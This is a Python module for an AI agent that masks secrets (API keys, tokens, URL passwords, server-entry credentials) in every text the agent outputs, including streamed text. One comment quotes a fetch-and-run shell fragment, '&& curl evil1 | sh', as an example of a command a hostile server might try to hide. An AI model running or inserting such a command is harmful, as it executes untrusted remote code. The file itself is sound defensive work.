"""Beyond the tutorial: the one owner of what is secret. The tutorial shows and sends what servers say as it
is; here every text that leaves the agent (the terminal, /logs, /last, the audit log, -p, the model's
requests, the mcp verbs, the trust question, the history file) is masked against this inventory:

- secret-named, one rule for variables, entry keys, headers, query parameters and flags (is_secret_name): a
  word of the name that is or ends in KEY, TOKEN, SECRET, PASSWORD, PASSWD, PASSPHRASE, CREDENTIAL, COOKIE,
  SESSION or AUTHORIZATION, or is AUTH, SIG, PAT, PASS or PWD; not a name ending in _FILE, _PATH, _DIR, _ENV,
  _VAR, -file or -path (or another that holds a path or an address), nor one whose last word says what else
  the value is (secret_id, token_type), nor an index's key or a page's token (sort_key, nextPageToken);
- the agent's environment's secret-named values and the passwords of the URLs in it, a proxy's too (read as
  they are now), so the model key wherever it came from; a trusted .env's alike (folder/dotenv.py hands them
  in, also where the environment's value won); a path that is there is none;
- an entry's secrets, handed in when its server starts (wire/): what is secret by its place (places(): env
  and headers under a secret-named key or a credential header, the value after a secret-named flag, a URL's
  user name and password, what is secret by place in any of its strings), written out or what a ${VAR} made
  of it, and what a ${VAR} put in a header. A folder's entries start only once it is trusted, so a hostile
  one cannot make common words vanish everywhere; until then, and in another client's file being imported,
  they are masked where they stand, never by value (a file's value would hide another's command);
- the logins' access and refresh tokens, client secrets and client assertions (auth/), when they are shaped
  like credentials (ISSUED).
Nothing takes a secret out: a server, a folder or a model can only add text to mask, never remove any.

Masking (mask(), mask_data() for JSON, MaskedStream for a stream): by value, a secret of ANYWHERE characters or
more wherever it stands, glued to other text too, a shorter one down to MIN_MASKED as a whole token, a shorter
one never (nor the placeholders of local endpoints); by place, a credential-shaped value at any length
(scan.py). names.py holds the names that say a value is secret, and those of files that usually hold one;
entries.py the places of a server entry that do, and the entry as it may be shown (a command never hidden).
The inventory is the process's, as its environment is: what one part learns, every other part masks, so it
is the one thing of ours kept at module level, added to only, under a lock.
"""
import collections
import functools
import json
import os
import re
import threading
import urllib.parse

from beyond.secrets.entries import CODE, Place, masked_entry, places
from beyond.secrets.names import (AUTH_SCHEME, CREDENTIAL_HEADERS, PLACEHOLDERS, SECRET_FILES, SECRET_FOLDERS,
                                  SECRET_PATHS, is_secret_name, looks_secret)
from beyond.secrets.scan import GENERIC, MAX_NAME, NOT_VALUES, by_place, triggered

__all__ = ["AUTH_SCHEME", "CREDENTIAL_HEADERS", "MIN_MASKED", "SECRET_FILES", "SECRET_FOLDERS", "SECRET_PATHS",
           "Inventory", "MaskedStream", "Place", "add", "is_secret_name", "learn_entry", "looks_secret", "mask",
           "mask_data", "masked_entry", "places"]

# A value shorter than this is never masked by value: it would mask ordinary words and digits everywhere.
MIN_MASKED = 8
# A value this long is masked wherever it stands, glued to other letters too (no word holds a 12-character
# key by chance); a shorter one only as a whole token, so the digits in a date or a word stay as they are.
ANYWHERE = 12
# Of what rotates (a login's tokens, each assertion), the newest this many of each kind are kept: an hour's
# refreshes and more, and an authorization server that answers with a new token every second grows nothing.
MAX_ROTATING = 16
# A streamed line that may hold a secret by place waits whole until it ends, up to this much.
MAX_HELD_CHARS = 4096
# A streamed text is held back where it may begin a secret: up to this many characters before the cut are
# looked up among the secrets' beginnings; a longer secret begun further back, by its first this many.
PREFIX_CHARS = 64
# A letter and a digit, and a credential's shape (entries.CODE: no space, quote, bracket or shell character):
# what a value another party chose (a token, a registration's secret) must have to be masked, so an
# authorization server cannot make words vanish ("function") nor hide a command ("&& curl evil1 | sh").
ISSUED = re.compile(r"(?=.*[A-Za-z])(?=.*[0-9])", re.DOTALL)
# An entry hands in at most this many secrets: a file of thousands would slow every line the agent shows.
MAX_PER_ENTRY = 64
# mask_data() walks a JSON value this deep (a schema, a call's arguments): below, its text is masked.
MAX_DEPTH = 64


class Inventory:
    """What is secret in this process: the environment's secret-named values and URL passwords (read live
    from `environ`), and what the parts hand in; mask() replaces them by value, then every secret by place.
    The sources bound what they hand in (a .env, an entry, the logins file are bounded files). _lock guards
    _kept, _rotating, _version and _built (the table made from them)."""

    def __init__(self, environ=os.environ) -> None:
        self.environ = environ
        self._kept: dict[str, str] = {}  # value -> what it is
        self._rotating: dict[str, collections.deque] = {}  # what they replace -> the newest (value, what it is)
        self._version = 0  # changed by every addition: the table is made again
        self._built: tuple | None = None  # (what it was made from, the table: see _variants_of)
        self._lock = threading.Lock()

    def add(self, value: object, what: str, rotating: str | None = None, issued: bool = False) -> None:
        """Hand in a secret; `what` names it in the mask ([REDACTED:what]); `rotating` names what it replaces
        (a server's access token replaces its last one): the newest MAX_ROTATING of each are kept; `issued`:
        another party chose it (ISSUED)."""
        if not isinstance(value, str) or not value.strip() or issued and (not ISSUED.match(value) or
                                                                         CODE.search(value)):
            return
        with self._lock:
            if value in self._kept:
                return
            if rotating is not None:
                newest = self._rotating.setdefault(rotating, collections.deque(maxlen=MAX_ROTATING))
                if (value, what) in newest:
                    return
                newest.append((value, what))
            else:
                self._kept[value] = what
            self._version += 1

    def learn_entry(self, written: dict, expanded: dict) -> None:
        """Hand in what a server about to start holds secret (wire/ calls this with its entry as written and
        as ${VAR} expanded): each value secret by its place, and each header a ${VAR} changed; MAX_PER_ENTRY."""
        now = expanded.get("headers") if isinstance(expanded.get("headers"), dict) else {}
        changed = [(AUTH_SCHEME.sub("", now[key]), str(key)) for key, value in (written.get("headers") or {}).items()
                   if isinstance(now.get(key), str) and now[key] != value]
        for value, what in ([(place.value, place.name) for place in places(expanded)] + changed)[:MAX_PER_ENTRY]:
            self.add(value, what)

    def values(self) -> dict[str, str]:
        """Every secret known now (value -> what it is), those too short to mask by value included."""
        with self._lock:
            held = {**self._kept, **{value: what for newest in self._rotating.values() for value, what in newest}}
        return {**dict(self._environment()), **held}

    def mask(self, text: str) -> str:
        """`text` with each known secret replaced by value ([REDACTED:what]), then every secret by place."""
        if not text:
            return text
        for variant, label, whole in self._table()[0]:
            if variant in text:  # a find in C: the pattern, if any, runs only where the secret is
                text = whole.sub(label, text) if whole else text.replace(variant, label)
        return by_place(text)

    def begun(self, text: str, cut: int) -> int:
        """Where in `text` a known secret may begin before `cut` and reach past it (one not whole yet at the
        end, or one whole but cut in two): the cut moved there; else `cut`. A set's lookups, not a find for
        each secret: the cost of a piece is its own, however many secrets there are."""
        _, prefixes, longest = self._table()
        for at in range(max(0, cut - PREFIX_CHARS), cut):
            if text[at:cut] in prefixes:  # a secret's first characters just before the cut: it may go on past it
                return at
        for variant in longest:  # one longer than PREFIX_CHARS begun further back
            at = text.find(variant[:PREFIX_CHARS], max(0, cut - len(variant) + 1), cut)
            if at != -1 and variant.startswith(text[at:at + len(variant)]):
                return at
        return cut

    def _environment(self) -> list[tuple[str, str]]:
        """(value, name) of each secret-named variable, and of the user name and password of a URL in any (a
        proxy's, a database's)."""
        return [found for name in self.environ for found in _of_variable(name, self.environ[name])]

    def _table(self) -> tuple[list[tuple[str, str, "re.Pattern | None"]], frozenset, list[str]]:
        """The table, made again when the environment or the inventory changed (see _variants_of)."""
        environment = tuple(self._environment())
        with self._lock:
            made_from = (environment, self._version)
            if self._built is None or self._built[0] != made_from:
                rotating = {value: what for newest in self._rotating.values() for value, what in newest}
                self._built = (made_from, *_variants_of({**rotating, **self._kept, **dict(environment)}))
            return self._built[1:]


@functools.lru_cache(maxsize=1024)  # read at every mask(): the same few variables each time
def _of_variable(name: str, value: str) -> tuple[tuple[str, str], ...]:
    if is_secret_name(name):
        return ((value, name),)
    return tuple((place.value, name) for place in places({"env": {name: value}})) if "://" in value else ()


def _variants_of(found: dict[str, str]) -> tuple[list, frozenset, int]:
    """(each form a secret may take in text, longest first, with its mask and, for a short one, its
    whole-token pattern; the first PREFIX_CHARS of them, cut at every length; those longer than that): as
    written and without the white space round it, inside a JSON string (either way JSON writes letters beyond
    ASCII), percent-encoded in a URL and decoded from one."""
    variants = {}
    for value, what in found.items():
        if len(value.strip()) < MIN_MASKED or value.strip().lower() in PLACEHOLDERS or _a_path(value):
            continue
        label = "[REDACTED:" + re.sub(r"[^A-Za-z0-9_.:-]", "_", what)[:64] + "]"
        bare = value.strip()
        for form in {value, bare, json.dumps(bare)[1:-1], json.dumps(bare, ensure_ascii=False)[1:-1],
                     urllib.parse.quote(bare, safe=""), urllib.parse.unquote(bare)}:
            if len(form) >= MIN_MASKED:
                whole = None if len(form) >= ANYWHERE else \
                    re.compile(f"(?<![A-Za-z0-9]){re.escape(form)}(?![A-Za-z0-9])")
                variants[form] = (label, whole)
    ordered = [(form, label, whole) for form, (label, whole) in sorted(variants.items(), key=lambda v: -len(v[0]))]
    prefixes = frozenset(form[:n] for form in variants for n in range(1, min(len(form), PREFIX_CHARS + 1)))
    return ordered, prefixes, [form for form in variants if len(form) > PREFIX_CHARS]


def _a_path(value: str) -> bool:
    """Whether a value names a file or folder that is there (GOOGLE_APPLICATION_CREDENTIALS, ${HOME}/x): where a
    secret is, not the secret."""
    path = os.path.expanduser(value.strip())
    return (os.path.isabs(path) or value.startswith("~")) and len(path) < 4096 and os.path.exists(path)


# The process's inventory (see above), and what the parts call.
INVENTORY = Inventory()


def add(value: object, what: str, rotating: str | None = None, issued: bool = False) -> None:
    """Hand a secret in: from now on it is masked wherever text leaves the agent (Inventory.add)."""
    INVENTORY.add(value, what, rotating, issued)


def learn_entry(written: dict, expanded: dict) -> None:
    """Hand in the secrets of a server about to start (Inventory.learn_entry)."""
    INVENTORY.learn_entry(written, expanded)


def mask(text: str) -> str:
    """`text` as it may leave the agent: every secret of the inventory masked, by value and by place."""
    return INVENTORY.mask(text)


def mask_data(value: object, depth: int = 0) -> object:
    """A JSON value as it may leave the agent: each string masked, and the value of each key that names a secret
    (not one too common to be sure of) replaced, when it has a credential's shape; a structure walked, never
    written out and parsed again (masking JSON's text could break an escape). Past MAX_DEPTH levels, what is
    deeper is masked as text, or left out if that text no longer parses."""
    if isinstance(value, str):
        return mask(value)
    if isinstance(value, (list, dict)) and depth >= MAX_DEPTH:
        try:
            return json.loads(mask(json.dumps(value)))
        except (ValueError, RecursionError):
            return None
    if isinstance(value, list):
        return [mask_data(item, depth + 1) for item in value]
    if not isinstance(value, dict):
        return value
    return {mask(str(key)): "[REDACTED]" if isinstance(item, str) and _named_secret(str(key), item)
            else mask_data(item, depth + 1) for key, item in value.items()}


def _named_secret(key: str, value: str) -> bool:
    return is_secret_name(key) and key.upper() not in GENERIC and value.lower() not in NOT_VALUES and bool(value) \
        and not value.startswith(("${", "[REDACTED", "[masked]")) and not CODE.search(value)


class MaskedStream:
    """Text that comes in pieces (a streamed answer), masked as mask() masks it, with a secret split across
    pieces caught: what may be part of one is held back until the next piece or rest(). A line that may hold
    a secret by place waits whole until it ends (within MAX_HELD_CHARS), the last word always (it may still
    grow into a name), and whatever may begin a known secret. Each piece is looked at once: its cost is its
    own, however long the line."""

    def __init__(self, inventory: Inventory = INVENTORY) -> None:
        self.inventory = inventory
        self._held = ""
        self._line_held = False  # _held begins a line that may hold a secret by place

    def feed(self, piece: str) -> str:
        """What may be shown now of everything fed so far, masked."""
        text, new = self._held + piece, len(self._held)
        start = text.rfind("\n") + 1  # the last line's
        if not (self._line_held and start == 0):
            self._line_held = triggered(text[max(start, new - MAX_NAME - 1):] if start < new else text[start:])
        if self._line_held:  # past MAX_HELD_CHARS, what is let go ends at a space: a name is never cut in two
            cut = start if len(text) - start <= MAX_HELD_CHARS else \
                max(start, text.rfind(" ", start, len(text) - MAX_HELD_CHARS) + 1)
        elif text[-1:].isspace():
            cut = len(text)
        else:
            cut = max(start, text.rfind(" ") + 1, text.rfind("\t") + 1, len(text) - MAX_NAME)
        cut = self.inventory.begun(text, cut)
        self._line_held = self._line_held and cut <= start
        self._held = text[cut:]
        return self.inventory.mask(text[:cut])

    def rest(self) -> str:
        """What is held back, masked: the stream has ended."""
        text, self._held, self._line_held = self._held, "", False
        return self.inventory.mask(text)
